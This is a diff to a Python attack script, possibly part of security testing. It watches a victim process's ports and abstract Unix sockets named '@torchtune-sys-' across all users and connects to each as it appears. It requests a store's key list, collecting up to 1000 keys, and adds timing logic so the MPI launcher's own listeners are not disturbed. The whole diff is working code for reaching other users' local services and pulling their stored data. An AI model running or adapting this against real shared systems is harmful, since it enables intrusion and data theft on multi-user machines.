@@ -134,7 +134,8 @@ def store(address: str, port: int) -> None:
         tried["store"] += 1
         held.append(caller.dup())
         caller.sendall(bytes([LIST]))
-        answer, keys = caller.recv(1 << 20)[8:], []
+        answer = caller.recv(1 << 20)[8:]
+        keys: list[bytes] = []
         while len(answer) > 8 and len(keys) < 1000:
             size = struct.unpack_from("<Q", answer)[0]
             keys.append(answer[8 : 8 + size])
@@ -181,14 +182,23 @@ def attack(address: str, port: int, stop: str) -> None:
 
 
 def attacking(victim: int, stop: str) -> None:
-    """Listeners live for moments: they are looked for without a pause."""
-    known: set[tuple[str, int]] = set()
+    """Listeners live for moments: they are looked for without a pause. What listens before the tool's first process is the launcher's own: MPICH's mpiexec ends, and Open
+    MPI's mpirun hangs, when anybody speaks to it."""
+    while not os.path.exists(stop) and "@torchtune-sys-" not in open_names():
+        time.sleep(0.002)
+    known = set(ports(victim))
     while not os.path.exists(stop):
         now = set(ports(victim))
         for address, port in now - known:
             threading.Thread(target=attack, args=(address, port, stop), daemon=True).start()
-        known = now
+        known |= now
         time.sleep(0.005)
+
+
+def open_names() -> str:
+    """Sockets with abstract names, of all users."""
+    with open("/proc/net/unix") as rows:
+        return rows.read()
 
 
 def closed(address: str, port: int) -> None:
@@ -216,8 +226,7 @@ def look_at_files(victim: int, known: dict[str, set[str]]) -> None:
 
 
 def look_at_names() -> None:
-    with open("/proc/net/unix") as rows:
-        names = {row.split()[-1] for row in rows}
+    names = {row.split()[-1] for row in open_names().splitlines()}
     for name in (name for name in names - met if str(name).startswith("@torchtune-sys-")):
         met.add(name)
         attempt("speak " + name, lambda name=name: speak("\0" + name[1:]))  # type: ignore[misc]
